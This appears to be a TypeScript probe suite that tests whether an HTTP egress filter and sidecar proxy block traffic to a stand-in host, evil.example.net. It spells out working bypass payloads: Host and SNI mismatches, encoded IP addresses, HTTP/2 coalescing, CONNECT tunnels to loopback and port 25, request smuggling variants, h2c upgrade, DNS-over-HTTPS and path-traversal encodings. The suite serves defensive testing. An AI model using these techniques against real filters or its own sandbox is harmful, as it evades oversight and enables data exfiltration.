// Ways out through HTTP itself: names that disagree, proxies, smuggling, paths.
import { connect as connectH2 } from "node:http2";
import { connect as connectTcp } from "node:net";
import { connect as connectTls } from "node:tls";
import { get, https, type Outcome, PATIENCE_MS, type Probes, runProbes, tcp, tls, way } from "./lib.ts";

const ALLOWED = "api.example.com";
const EVIL = "evil.example.net";
const PROXY = { host: "sidecar", port: 9099 };
const API_ADDRESS = "203.0.113.10";

const at = (name: string) => `/v1/${way}/${name}`;

/** Over TLS to the allowed host, exactly these bytes. */
const send = (bytes: string, patience = PATIENCE_MS) => tls({ dial: ALLOWED, sni: ALLOWED, patience }, bytes);
const withHost = (name: string, host: string) => send(get(at(name), host));
const address = (name: string, host: string, sni?: string) =>
  tls({ dial: API_ADDRESS, ...(sni === undefined ? {} : { sni }) }, get(at(name), host));

/** One HTTP/2 request with these pseudo-header and header fields. */
function h2(fields: Readonly<Record<string, string>>, sni = ALLOWED): Promise<Outcome> {
  return new Promise((resolve) => {
    const client = connectH2(`https://${ALLOWED}`, {
      createConnection: () =>
        connectTls({
          host: ALLOWED,
          port: 443,
          servername: sni,
          rejectUnauthorized: false,
          ALPNProtocols: ["h2"],
        }),
    });
    const end = (one: Outcome) => {
      clearTimeout(timer);
      resolve(one);
      client.destroy();
    };
    const timer = setTimeout(() => end({ kind: "failed", code: "TIMEOUT" }), PATIENCE_MS);
    client.on("error", (error: NodeJS.ErrnoException) =>
      end({ kind: "failed", code: error.code ?? error.message }),
    );
    const request = client.request({ ":method": "GET", ":path": at("h2"), ...fields });
    request.on("error", (error: NodeJS.ErrnoException) =>
      end({ kind: "failed", code: error.code ?? error.message }),
    );
    let raw = "";
    let status = 0;
    let verdict: string | null = null;
    request.on("response", (headers) => {
      status = headers[":status"] ?? 0;
      const field = headers["x-bot-bottle-verdict"];
      verdict = typeof field === "string" ? field : null;
    });
    request.on("data", (chunk: Buffer) => {
      raw += chunk.toString("latin1");
    });
    request.on("close", () => {
      end(status === 0 ? { kind: "failed", code: "RESET" } : { kind: "http", status, verdict, raw });
    });
    request.end();
  });
}

/** CONNECT, then bytes through the tunnel, over TLS when `sni` is given. The first answer's refusal counts. */
function tunnel(target: string, sni: string | undefined, bytes: string): Promise<Outcome> {
  return new Promise((resolve) => {
    const socket = connectTcp(PROXY);
    let raw = "";
    const end = (one: Outcome) => {
      clearTimeout(timer);
      resolve(one);
      socket.destroy();
    };
    const read = (text: string): Outcome => {
      const status = /^HTTP\/1\.1 (\d{3})/.exec(text)?.[1];
      const verdict = /\r\nx-bot-bottle-verdict: ([^\r]*)/i.exec(text)?.[1] ?? null;
      if (status === undefined)
        return text === "" ? { kind: "failed", code: "CLOSED" } : { kind: "bytes", raw: text };
      return { kind: "http", status: Number(status), verdict, raw: text };
    };
    const timer = setTimeout(
      () => end(raw === "" ? { kind: "failed", code: "TIMEOUT" } : read(raw)),
      PATIENCE_MS,
    );
    socket.on("error", (error: NodeJS.ErrnoException) =>
      end({ kind: "failed", code: error.code ?? error.message }),
    );
    socket.once("data", (chunk: Buffer) => {
      const answer = chunk.toString("latin1");
      if (!/^HTTP\/1\.1 200/.test(answer)) {
        raw = answer;
        // the body may be on its way
        socket.on("data", (more: Buffer) => {
          raw += more.toString("latin1");
        });
        setTimeout(() => end(read(raw)), 100);
        return;
      }
      const inner =
        sni === undefined
          ? socket
          : connectTls({ socket, servername: sni, rejectUnauthorized: false, ALPNProtocols: ["http/1.1"] });
      inner.on("error", (error: NodeJS.ErrnoException) =>
        end({ kind: "failed", code: error.code ?? error.message }),
      );
      inner.on("data", (more: Buffer) => {
        raw += more.toString("latin1");
      });
      inner.on("close", () => end(read(raw)));
      inner.write(bytes);
    });
    socket.write(`CONNECT ${target} HTTP/1.1\r\nHost: ${target}\r\n\r\n`);
  });
}

const names: Probes = {
  allowed: () => withHost("allowed", ALLOWED),
  "allowed-upper-case": () =>
    tls({ dial: ALLOWED, sni: ALLOWED }, get(at("allowed-upper"), "API.Example.COM")),
  "allowed-port": () => withHost("allowed-port", `${ALLOWED}:443`),
  "other-host": () => https(EVIL, at("other-host")),
  doh: () => https("dns.google", "/dns-query?dns=AAABAAABAAAAAAAA"),
  "sni-allowed-host-other": () => withHost("sni-allowed-host-other", EVIL),
  "sni-other-host-allowed": () => tls({ dial: EVIL, sni: EVIL }, get(at("sni-other"), ALLOWED)),
  "no-sni": () => address("no-sni", ALLOWED),
  "no-host": () => send(`GET ${at("no-host")} HTTP/1.1\r\nConnection: close\r\n\r\n`),
  "two-hosts": () => send(get(at("two-hosts"), ALLOWED, `Host: ${EVIL}\r\n`)),
  "two-hosts-reversed": () => send(get(at("two-hosts-r"), EVIL, `Host: ${ALLOWED}\r\n`)),
  "host-other-port": () => withHost("host-other-port", `${ALLOWED}:8443`),
  userinfo: () => withHost("userinfo", `${ALLOWED}@${EVIL}`),
  "absolute-other": () => send(get(`https://${EVIL}${at("absolute-other")}`, ALLOWED)),
  "ip-plain": () => address("ip-plain", API_ADDRESS),
  "ip-octal": () => address("ip-octal", "0313.0000.0161.0012"),
  "ip-hex": () => address("ip-hex", "0xcb.0x0.0x71.0xa"),
  "ip-dword": () => address("ip-dword", "3405803786"),
  "ip-hex-dword": () => address("ip-hex-dword", "0xcb00710a"),
  "ip-mixed": () => address("ip-mixed", "203.0x0.28938"),
  "ip-trailing-dot": () => address("ip-trailing-dot", `${API_ADDRESS}.`),
  "ip-mapped": () => address("ip-mapped", `[::ffff:${API_ADDRESS}]`),
  "ip-v6": () => address("ip-v6", "[2001:db8:66::7]"),
  "ip-v6-zone": () => address("ip-v6-zone", "[fe80::1%25lo]"),
  "ip-as-sni": () => address("ip-as-sni", API_ADDRESS, "203.0.113.10.example.net"),
  "full-width": () => address("full-width", "\xef\xbc\x92\xef\xbc\x90\xef\xbc\x93.0.113.10"),
  "h2-allowed": () => h2({ ":authority": ALLOWED }),
  "h2-coalesced": () => h2({ ":authority": EVIL }),
  "h2-host-differs": () => h2({ ":authority": ALLOWED, host: EVIL }),
  "h2-sni-other": () => h2({ ":authority": ALLOWED }, EVIL),
};

const ways: Probes = {
  "proxy-allowed": () => tunnel(`${ALLOWED}:443`, ALLOWED, get(at("proxy-allowed"), ALLOWED)),
  "proxy-connect-other": () => tunnel(`${EVIL}:443`, EVIL, get(at("proxy-connect-other"), EVIL)),
  "proxy-connect-25": () => tunnel(`${ALLOWED}:25`, undefined, "EHLO leak\r\n"),
  "proxy-connect-ip": () => tunnel(`${API_ADDRESS}:443`, ALLOWED, get(at("proxy-connect-ip"), ALLOWED)),
  "proxy-connect-loopback": () => tunnel("127.0.0.1:8080", undefined, "leak\r\n"),
  "proxy-connect-sni-other": () => tunnel(`${ALLOWED}:443`, EVIL, get(at("proxy-sni-other"), EVIL)),
  "proxy-connect-host-other": () => tunnel(`${ALLOWED}:443`, ALLOWED, get(at("proxy-host-other"), EVIL)),
  "proxy-connect-not-tls": () => tunnel(`${ALLOWED}:443`, undefined, get(at("proxy-not-tls"), EVIL)),
  "proxy-connect-nested": () =>
    tunnel(
      `${ALLOWED}:443`,
      ALLOWED,
      `CONNECT ${EVIL}:443 HTTP/1.1\r\nHost: ${EVIL}:443\r\nConnection: close\r\n\r\n`,
    ),
  "proxy-absolute-other": () => tcp(PROXY, get(`http://${EVIL}${at("proxy-absolute-other")}`, EVIL)),
  "proxy-absolute-host-differs": () => tcp(PROXY, get(`http://${EVIL}${at("proxy-absolute-d")}`, ALLOWED)),
  "proxy-absolute-loopback": () => tcp(PROXY, get("http://127.0.0.1:8080/", "127.0.0.1:8080")),
  "proxy-reverse-allowed": () => tcp(PROXY, get(`/${ALLOWED}${at("proxy-reverse-allowed")}`, "sidecar:9099")),
  "proxy-reverse-other": () => tcp(PROXY, get(`/${EVIL}${at("proxy-reverse-other")}`, "sidecar:9099")),
  "proxy-reverse-userinfo": () => tcp(PROXY, get(`/${ALLOWED}@${EVIL}/v1/x`, "sidecar:9099")),
};

const post = (name: string, fields: string, body: string) =>
  send(`POST ${at(name)} HTTP/1.1\r\nHost: ${ALLOWED}\r\n${fields}\r\n${body}`);
const SMUGGLED = `GET ${at("smuggled")} HTTP/1.1\r\nHost: ${EVIL}\r\nConnection: close\r\n\r\n`;
const chunked = `0\r\n\r\n${SMUGGLED}`;

const smuggling: Probes = {
  "smuggle-cl-te": () =>
    post("s", `Content-Length: ${chunked.length}\r\nTransfer-Encoding: chunked\r\n`, chunked),
  "smuggle-te-cl": () => post("s", "Transfer-Encoding: chunked\r\nContent-Length: 4\r\n", chunked),
  "smuggle-te-te": () => post("s", "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n", chunked),
  "smuggle-xchunked": () => post("s", "Transfer-Encoding: xchunked\r\n", chunked),
  "smuggle-two-lengths": () => post("s", "Content-Length: 0\r\nContent-Length: 44\r\n", SMUGGLED),
  "smuggle-signed-length": () => post("s", "Content-Length: +0\r\n", SMUGGLED),
  "smuggle-bare-lf": () => send(`GET ${at("s")} HTTP/1.1\nHost: ${ALLOWED}\n\n${SMUGGLED}`),
  "smuggle-obs-fold": () => post("s", "X-A: b\r\n Content-Length: 44\r\nContent-Length: 0\r\n", SMUGGLED),
  "smuggle-space-colon": () => post("s", "Content-Length : 44\r\n", SMUGGLED),
  "smuggle-bare-cr": () => post("s", "X-A: b\rHost: evil.example.net\r\nContent-Length: 0\r\n", ""),
  "smuggle-nul": () => post("s", "X-A: b\0c\r\nContent-Length: 0\r\n", ""),
  // nobody answers half a head
  "smuggle-http09": () => send(`GET ${at("s")}\r\n`, 1_000),
  pipelined: () => send(`GET ${at("first")} HTTP/1.1\r\nHost: ${ALLOWED}\r\n\r\n${SMUGGLED}`),
  upgrade: () =>
    send(
      get(
        at("upgrade"),
        ALLOWED,
        "Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n",
      ),
    ),
  trace: () => send(`TRACE ${at("trace")} HTTP/1.1\r\nHost: ${ALLOWED}\r\nConnection: close\r\n\r\n`),
};

const paths: Probes = Object.fromEntries(
  Object.entries({
    "path-outside": "/admin",
    "path-dots": "/v1/../admin",
    "path-encoded-dots": "/v1/%2e%2e/admin",
    "path-half-encoded-dots": "/v1/.%2e/admin",
    "path-encoded-slash": "/v1/..%2fadmin",
    "path-encoded-backslash": "/v1/..%5cadmin",
    "path-backslash": "/v1\\..\\admin",
    "path-semicolon": "/v1/..;/admin",
    "path-double-slash": "//admin",
    "path-nul": "/v1/%00/../../admin",
    "path-overlong": "/v1/%c0%ae%c0%ae/admin",
    "path-prefix-word": "/v1x/admin",
    "path-fragment": "/admin#/v1/",
  }).map(([name, path]) => [name, () => send(get(path, ALLOWED))]),
);

await runProbes({ ...names, ...ways, ...smuggling, ...paths }, 8);
